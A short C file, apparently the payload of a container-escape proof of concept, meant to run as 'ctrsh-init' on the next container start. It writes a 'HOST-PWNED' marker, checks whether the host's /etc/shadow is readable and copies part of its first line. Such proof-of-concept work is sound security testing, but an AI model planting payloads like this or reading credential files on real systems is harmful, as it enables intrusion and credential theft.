// What the container leaves as ctrsh-init: run by the next `start`.
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/stat.h>
int main(void) {
    struct stat st;
    FILE *f = fopen("/tmp/atk/HOST-PWNED", "w");
    if (f) {
        fprintf(f, "ran as uid %d; host /etc/shadow %s\n", getuid(), stat("/etc/shadow", &st) == 0 && access("/etc/shadow", R_OK) == 0 ? "readable" : "not readable");
        FILE *s = fopen("/etc/shadow", "r"); char line[128];
        if (s && fgets(line, sizeof line, s)) fprintf(f, "first line: %.12s...\n", line);
        fclose(f);
    }
    pause();
    return 0;
}
